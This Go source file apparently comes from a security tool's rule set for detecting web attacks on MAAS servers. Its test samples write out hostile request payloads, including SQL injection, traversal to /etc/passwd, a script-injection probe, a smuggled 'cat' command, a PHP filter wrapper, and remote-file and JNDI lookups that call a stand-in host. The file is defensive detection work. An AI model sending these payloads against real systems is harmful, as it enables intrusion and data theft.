package units

import (
	. "github.com/metalward/metalward/internal/detect"
)

var (
	// requested is a request, as an access log of a web server or MAAS's own has it. The kind is part of the key, so that a request that both have
	// counts once in each.
	requested = is(Kind, "web", "maas")
	anyWeb    = is(Kind, "web", "maas", "weberror")
)

// attackUnit is a unit about requests that carry an attack: what differs is in the arguments.
func attackUnit(id, title, kind, why, do string, attack []string, rungs []Rung, samples []Sample) Unit {
	return Unit{ID: id, Title: title, Source: guide + "; " + reference + " 3.3", ATTACK: attack, Proves: true, Why: why, Do: do,
		Match: All(anyWeb, has(AttackIs, kind)), Key: []Field{Kind, Source}, Distinct: Target, Rungs: rungs, Samples: samples}
}

var web = []Unit{
	{
		ID: "web_burst", Title: "One client sends requests faster than people do", Source: guide + "; " + reference + " 3.3", ATTACK: []string{"T1499.002", "T1595.003"}, Proves: true,
		Why:   "More than twenty pages within a second, or a hundred within ten, is a program. Pictures, styles and scripts do not count, nor do the calls of racks and machines.",
		Do:    "See which program: an agent of one's own belongs on the list of what is ignored; limit the rest at the balancer.",
		Match: All(requested, Not(has(Flag, "static", "machine_call")), known(Source)), Key: []Field{Kind, Source, Vhost},
		Rungs: []Rung{{Count: 21, Window: 1 * second, Severity: Low}, {Count: 101, Window: 10 * second, Severity: Low}},
		Quiet: []string{"static files", "the metadata service, racks' calls and the pages' WebSocket"},
		Samples: []Sample{
			{Name: "twenty-one in a second", Lines: requests(21, func(i int) request { return request{target: "/p" + itoa(i)} }), Want: Low},
			{Name: "twenty", Lines: requests(20, func(i int) request { return request{target: "/p" + itoa(i)} })},
			{Name: "a hundred and one in ten seconds", Lines: requests(101, func(i int) request { return request{at: i / 11, target: "/p" + itoa(i)} }), Want: Low},
			{Name: "a page's pictures", Lines: requests(60, func(i int) request { return request{target: "/img/" + itoa(i) + ".png"} })},
			{Name: "machines that boot", Lines: requests(60, func(i int) request { return request{target: "/MAAS/metadata/latest/" + itoa(i)} })},
			{Name: "through the metadata's folder and out of it", Lines: requests(21, func(i int) request { return request{target: "/MAAS/metadata/../p" + itoa(i)} }), Want: Low},
			{Name: "what begins as the pages' WebSocket does", Lines: requests(21, func(i int) request { return request{target: "/MAAS/ws" + itoa(i)} }), Want: Low},
		},
	},
	{
		ID: "web_limit", Title: "The web server's own limit holds one client back", Source: "nginx, ngx_http_limit_req_module", ATTACK: []string{"T1499.002"}, Proves: true,
		Why: "A limit that the operator set is reached again and again.", Do: "See what the client asks for.",
		Match: All(is(Kind, "weberror"), is(EventName, "limit")), Key: []Field{Source}, Rungs: []Rung{{Count: 5, Window: minute, Severity: Low}},
		Samples: []Sample{
			{Name: "five in a minute", Lines: several(5, func(i int) string { return nginxError(i, `limiting requests, excess: 5.428 by zone "all"`) }), Want: Low},
			{Name: "four", Lines: several(4, func(i int) string { return nginxError(i, `limiting requests, excess: 5.428 by zone "all"`) })},
		},
	},
	{
		ID: "web_login_bruteforce", Title: "One client guesses at a login page", Source: guide + "; " + reference + " 3.3", ATTACK: []string{"T1110.001"}, Proves: true,
		Why: "Five refusals within a minute or ten within ten are beyond mistyping.", Do: "See whether the client got in; put a second factor before the page.",
		Match: All(anyWeb, is(Outcome, "failure"), Not(is(Kind, "maas")), Not(has(Flag, "metadata")), known(Source)), Key: []Field{Kind, Source},
		Rungs: []Rung{{Count: 5, Window: minute, Severity: Medium}, {Count: 10, Window: 10 * minute, Severity: Medium}},
		Quiet: []string{"one person who mistypes two to four times", "the page that polls its own login state"},
		Samples: []Sample{
			{Name: "five in a minute", Lines: requests(5, func(i int) request { return request{at: i * 10, method: "POST", target: "/login", status: 403} }), Want: Medium},
			{Name: "four", Lines: requests(4, func(i int) request { return request{at: i * 10, method: "POST", target: "/login", status: 403} })},
			{Name: "ten in ten minutes", Lines: requests(10, func(i int) request { return request{at: i * 59, user: "ann", target: "/private/", status: 401} }), Want: Medium},
			{Name: "a browser's first question", Lines: requests(30, func(i int) request { return request{at: i, target: "/private/" + itoa(i), status: 401} })},
			{Name: "machines with stale keys", Lines: requests(30, func(i int) request {
				return request{at: i * 5, user: "x", target: "/MAAS/metadata/2012-03-01/", status: 401}
			})},
		},
	},
	{
		ID: "web_login_spray", Title: "One user name is tried from many clients", Source: reference + " 3.3", ATTACK: []string{"T1110.003"},
		Why: "Twenty refusals of one name within ten minutes, whoever sends them, are an attack on that account.", Do: "Tell the person; see that a second factor is on.",
		Match: All(anyWeb, is(Outcome, "failure"), known(User)), Key: []Field{Kind, User}, Rungs: []Rung{{Count: 20, Window: 10 * minute, Severity: Medium}},
		Samples: []Sample{
			{Name: "twenty", Lines: requests(20, func(i int) request {
				return request{at: i * 20, client: "198.51.100." + itoa(i+1), user: "ann", target: "/private/", status: 401}
			}), Want: Medium},
			{Name: "nineteen", Lines: requests(19, func(i int) request {
				return request{at: i * 20, client: "198.51.100." + itoa(i+1), user: "ann", target: "/private/", status: 401}
			})},
		},
	},
	{
		ID: "web_login_access", Title: "One client asks for a login page again and again", Source: guide + "; " + reference + " 3.3", ATTACK: []string{"T1110"}, Proves: true,
		Why: "Ten tries to log in within a minute are worth a look whatever was answered: many applications answer a refusal with 200.", Do: "See how the answers differ in size.",
		Match: All(requested, has(Flag, "login_page"), is(Method, "POST"), known(Source)), Key: []Field{Kind, Source},
		Rungs: []Rung{{Count: 10, Window: minute, Severity: Low}},
		Quiet: []string{"the poll of MAAS's pages, which is a GET"},
		Samples: []Sample{
			{Name: "ten in a minute", Lines: requests(10, func(i int) request { return request{at: i, method: "POST", target: "/user/login"} }), Want: Low},
			{Name: "nine", Lines: requests(9, func(i int) request { return request{at: i, method: "POST", target: "/user/login"} })},
			{Name: "MAAS's pages", Lines: requests(40, func(i int) request { return request{at: i, target: "/MAAS/accounts/login/"} })},
		},
	},
	{
		ID: "web_probe", Title: "One client asks for pages that are not there", Source: guide + "; " + reference + " 3.3", ATTACK: []string{"T1595.003"}, Proves: true,
		Why: "Ten different pages refused within a minute, or thirty within an hour, come from a list and not from links.", Do: "See whether any of the pages was answered with 200.",
		Match: All(anyWeb, has(Flag, "missing"), Not(has(Flag, "static", "machine_call")), Not(is(Outcome, "failure")), known(Source)), Key: []Field{Kind, Source, Vhost}, Distinct: Path,
		Rungs: []Rung{{Distinct: 10, Window: minute, Severity: Low}, {Distinct: 30, Window: hour, Severity: Medium}},
		Quiet: []string{"one broken link, again and again", "favicons, source maps and other files"},
		Samples: []Sample{
			{Name: "ten in a minute", Lines: requests(10, func(i int) request { return request{at: i, target: "/a" + itoa(i), status: 404} }), Want: Low},
			{Name: "nine", Lines: requests(9, func(i int) request { return request{at: i, target: "/a" + itoa(i), status: 404} })},
			{Name: "thirty in an hour", Lines: requests(30, func(i int) request { return request{at: i * 110, target: "/a" + itoa(i), status: 404} }), Want: Medium},
			{Name: "one broken link", Lines: requests(50, func(i int) request { return request{at: i, target: "/gone", status: 404} })},
			{Name: "missing pictures", Lines: requests(50, func(i int) request { return request{at: i, target: "/img/" + itoa(i) + ".png", status: 404} })},
		},
	},
	{
		ID: "web_probe_known", Title: "One client asks for what only searchers for flaws ask for", Source: reference + " 3.3", ATTACK: []string{"T1595.002"}, Proves: true,
		Why: "Nothing of MAAS or Metalward lives at these paths.", Do: "Nothing, if all were refused. Where one was answered with 200, see what it is.",
		Match: All(requested, has(AttackIs, "known"), Not(is(Status, "200", "301", "302", "304")), known(Source)), Key: []Field{Kind, Source}, Distinct: Path,
		Rungs: []Rung{{Distinct: 1, Window: day, Severity: Low}, {Distinct: 3, Window: day, Severity: Medium}},
		Quiet: []string{"a site that serves the path"},
		Samples: []Sample{
			{Name: "one", Lines: []string{request{target: "/.env", status: 404}.String()}, Want: Low},
			{Name: "three", Lines: requests(3, func(i int) request {
				return request{at: i, target: []string{"/.env", "/.git/config", "/wp-login.php"}[i], status: 404}
			}), Want: Medium},
			{Name: "one's own WordPress", Lines: requests(3, func(i int) request {
				return request{at: i, target: []string{"/wp-login.php", "/wp-admin/", "/xmlrpc.php"}[i]}
			})},
		},
	},
	{
		ID: "web_malformed", Title: "One client does not speak HTTP", Source: reference + " 3.1; CVE lists of worms", ATTACK: []string{"T1595.002"}, Proves: true,
		Why: "Handshakes of TLS on a plain port happen by mistake; ten within a minute do not.", Do: "See what listens on the port, and who may reach it.",
		Match: All(anyWeb, has(AttackIs, "malformed"), known(Source)), Key: []Field{Kind, Source}, Rungs: []Rung{{Count: 1, Window: minute, Severity: Info}, {Count: 10, Window: minute, Severity: Low}},
		Samples: []Sample{
			{Name: "ten", Lines: several(10, func(i int) string { return raw(i, `\x16\x03\x01\x06`) }), Want: Low},
			{Name: "a request", Lines: []string{request{target: "/"}.String()}},
		},
	},
	attackUnit("web_sqli", "Requests carry SQL injection", "sqli",
		"A controller's own pages never send SQL: one such request is enough to tell. Bodies of POST are not in access logs and are not seen.",
		"See whether the answer differs from the page's usual size; update what serves it; put the firewall of requests before it.", []string{"T1190"},
		[]Rung{{Count: 1, Window: day, Severity: Medium}, {Distinct: 5, Window: day, Severity: High}},
		[]Sample{
			{Name: "a union", Lines: []string{request{target: "/x?id=1%27%20UNION%20SELECT%20null,version()--%20-"}.String()}, Want: Medium},
			{Name: "five different", Lines: requests(5, func(i int) request {
				return request{at: i, target: "/x?id=1%27+or+" + itoa(i) + "%3D" + itoa(i) + "--+-"}
			}), Want: High},
			{Name: "a name", Lines: []string{request{target: "/x?name=O%27Brien+or+his+son"}.String()}},
			{Name: "prose", Lines: []string{request{target: "/search?q=select+a+union+of+2+or+4+metal+buttons"}.String()}},
		}),
	{
		ID: "web_shell", Title: "A web shell is asked for", Source: guide + "; " + reference + " 3.3", ATTACK: []string{"T1505.003"}, Proves: true,
		Why:   "Names of known shells, scripts that take a command, and at a server's root what other intruders leave, dumps and copies of configurations among it, are asked for by who left one or looks for others'. An answer of 200 means that it may be there.",
		Do:    "If any was answered with 200: look at the file. Take the host off the network if it is a shell.",
		Match: All(requested, has(AttackIs, "shell")), Key: []Field{Kind, Source, Path},
		Rungs: []Rung{{Count: 1, Window: day, Severity: Low}},
		Quiet: []string{"class files named Shell of applications", "upload.php, console.php and the like", "folders such as /admin or /css, though panels have them, too"},
		Samples: []Sample{
			{Name: "refused", Lines: []string{request{target: "/b374k.php", status: 404}.String()}, Want: Low},
			{Name: "a command", Lines: []string{request{target: "/x/img.php?cmd=id", status: 404}.String()}, Want: Low},
			{Name: "a dump", Lines: []string{request{target: "/backup.sql", status: 404}.String()}, Want: Low},
			{Name: "a dump below a folder", Lines: []string{request{target: "/docs/schema.sql"}.String()}},
			{Name: "folders", Lines: []string{request{target: "/admin", status: 404}.String(), request{target: "/css", status: 404}.String(), request{target: "/configgroups.php"}.String()}},
			{Name: "MediaWiki's class", Lines: []string{request{target: "/includes/Shell.php", status: 404}.String()}},
		},
	},
	{
		ID: "web_shell_answered", Title: "A web shell, or what intruders look for, is there", Source: reference + " 3.3", ATTACK: []string{"T1505.003"},
		Why:   "A script with a shell's name, one that was given a command, or a dump at the root was answered with 200.",
		Do:    "Look at the file now. Take a dump away, and change the secrets that stand in it. If it is a shell, take the host off the network, and find how it came there.",
		Match: All(requested, has(AttackIs, "shell"), is(Status, "200")), Key: []Field{Kind, Path}, Rungs: []Rung{{Count: 1, Window: day, Severity: High}},
		Samples: []Sample{
			{Name: "answered", Lines: []string{request{target: "/b374k.php"}.String()}, Want: High},
			{Name: "refused", Lines: []string{request{target: "/b374k.php", status: 404}.String()}},
		},
	},
	attackUnit("web_path_traversal", "Requests leave the served folder", "traversal", "No link of a page climbs above the root.",
		"See whether any was answered with 200.", []string{"T1083", "T1190"},
		[]Rung{{Count: 1, Window: day, Severity: Low}, {Distinct: 3, Window: day, Severity: Medium}},
		[]Sample{
			{Name: "once", Lines: []string{request{target: "/a?f=..%2f..%2fetc%2fpasswd", status: 404}.String()}, Want: Low},
			{Name: "three", Lines: requests(3, func(i int) request {
				return request{at: i, target: "/" + itoa(i) + "/..%252f..%252f..%252fx", status: 404}
			}), Want: Medium},
			{Name: "a range", Lines: []string{request{target: "/diff/v1..2/a...b"}.String()}},
		}),
	attackUnit("web_xss", "Requests carry script for others' browsers", "xss", "Script in a parameter is to be shown to somebody else.",
		"See whether the page shows the parameter unescaped.", []string{"T1059.007", "T1190"},
		[]Rung{{Count: 1, Window: day, Severity: Low}, {Distinct: 5, Window: day, Severity: Medium}},
		[]Sample{
			{Name: "a script", Lines: []string{request{target: "/x?q=%3Cscript%3Ealert(1)%3C/script%3E"}.String()}, Want: Low},
			{Name: "five of them", Lines: requests(5, func(i int) request {
				return request{at: i, target: "/" + itoa(i) + "?q=%3Cscript%3Ealert(1)%3C/script%3E"}
			}), Want: Medium},
			{Name: "less than", Lines: []string{request{target: "/x?q=a%3C5+and+b%3E3"}.String()}},
		}),
	attackUnit("web_command", "Requests carry commands or code", "command", "A shell's separators followed by a command have no place in a parameter.",
		"See which program serves the path, and its updates.", []string{"T1059", "T1190"},
		[]Rung{{Count: 1, Window: day, Severity: Low}, {Distinct: 3, Window: day, Severity: Medium}},
		[]Sample{
			{Name: "a command", Lines: []string{request{target: "/x?host=127.0.0.1%3Bcat%20/etc/hosts"}.String()}, Want: Low},
			{Name: "three of them", Lines: requests(3, func(i int) request {
				return request{at: i, target: "/" + itoa(i) + "?host=127.0.0.1%3Bcat%20/etc/hosts"}
			}), Want: Medium},
			{Name: "prose", Lines: []string{request{target: "/x?q=cats;+dogs"}.String()}},
		}),
	attackUnit("web_code", "Requests carry code of PHP or files from elsewhere", "php", "Wrappers and functions of PHP in a parameter are to be run.",
		"See which program serves the path, and its updates.", []string{"T1190"},
		[]Rung{{Count: 1, Window: day, Severity: Low}, {Distinct: 3, Window: day, Severity: Medium}},
		[]Sample{
			{Name: "a wrapper", Lines: []string{request{target: "/x?page=php://filter/read=convert.base64-encode/resource=index"}.String()}, Want: Low},
			{Name: "three of them", Lines: requests(3, func(i int) request {
				return request{at: i, target: "/" + itoa(i) + "?page=php://filter/read=convert.base64-encode/resource=index"}
			}), Want: Medium},
			{Name: "an address", Lines: []string{request{target: "/x?next=https://www.example.org/page"}.String()}},
		}),
	attackUnit("web_rfi", "Requests name a file elsewhere to be included", "remote_file", "A file of text on another server as a parameter is to be run here.",
		"See which program serves the path, and its updates.", []string{"T1190"},
		[]Rung{{Count: 1, Window: day, Severity: Low}, {Distinct: 3, Window: day, Severity: Medium}},
		[]Sample{
			{Name: "a file", Lines: []string{request{target: "/x?page=http://203.0.113.9/shell.txt?"}.String()}, Want: Low},
			{Name: "three of them", Lines: requests(3, func(i int) request {
				return request{at: i, target: "/" + itoa(i) + "?page=http://203.0.113.9/shell.txt?"}
			}), Want: Medium},
			{Name: "an address", Lines: []string{request{target: "/x?next=https://www.example.org/page"}.String()}},
		}),
	attackUnit("web_exploit", "Requests use a known flaw", "exploit", "The request has the form that a published flaw needs.",
		"Find whether the product is here and which version; update it.", []string{"T1190"},
		[]Rung{{Count: 1, Window: day, Severity: Medium}},
		[]Sample{
			{Name: "a lookup in an agent", Lines: []string{request{target: "/", agent: "${jndi:ldap://203.0.113.9/a}"}.String()}, Want: Medium},
			{Name: "a class loader", Lines: []string{request{target: "/?class.module.classLoader.x=1", status: 404}.String()}, Want: Medium},
			{Name: "an ordinary parameter", Lines: []string{request{target: "/?class=module"}.String()}},
		}),
	attackUnit("web_bad_agent", "A scanner names itself", "agent", "Tools for finding flaws put their names into requests unless told not to.",
		"Nothing by itself; see what else the client did.", []string{"T1595.002"},
		[]Rung{{Count: 1, Window: day, Severity: Low}},
		[]Sample{
			{Name: "Nikto", Lines: []string{request{target: "/", agent: "Mozilla/5.00 (Nikto/2.1.5) (Test:map_codes)"}.String()}, Want: Low},
			{Name: "a browser", Lines: []string{request{target: "/"}.String()}},
		}),
	attackUnit("web_open_proxy", "Requests want to be passed on", "open_proxy", "Who asks a server for another server's page looks for an open proxy.",
		"See that the answer was an error: metalward harden check --only services.", []string{"T1090"},
		[]Rung{{Count: 1, Window: day, Severity: Low}},
		[]Sample{
			{Name: "CONNECT", Lines: []string{request{method: "CONNECT", target: "mail.example:25", status: 400}.String()}, Want: Low},
			{Name: "a page", Lines: []string{request{target: "/?u=http://a.example/"}.String()}},
		}),
	{
		ID: "internal_http", Title: "Requests reach a port that only controllers speak to", Source: "Canonical, How to enhance MAAS security; Metalward's table of ports", ATTACK: []string{"T1046"}, Proves: true,
		Why: "Browsers and scanners that send GET to the controllers' port have found it open.", Do: "Close 5250 and above to everybody but controllers: metalward harden check --only ports.",
		Match: All(is(Kind, "maas"), is(EventName, "INTERNAL_plain_request")), Key: []Field{Source}, Rungs: []Rung{{Count: 1, Window: day, Severity: Low}},
		Samples: []Sample{
			{Name: "a GET", Lines: []string{security(0, `"message":"INTERNAL_plain_request"`, `"request_remote_ip":"198.51.100.7"`)}, Want: Low},
			{Name: "a login", Lines: []string{security(0, `"message":"AUTHN_login_successful"`, `"request_remote_ip":"198.51.100.7"`)}},
		},
	},
}
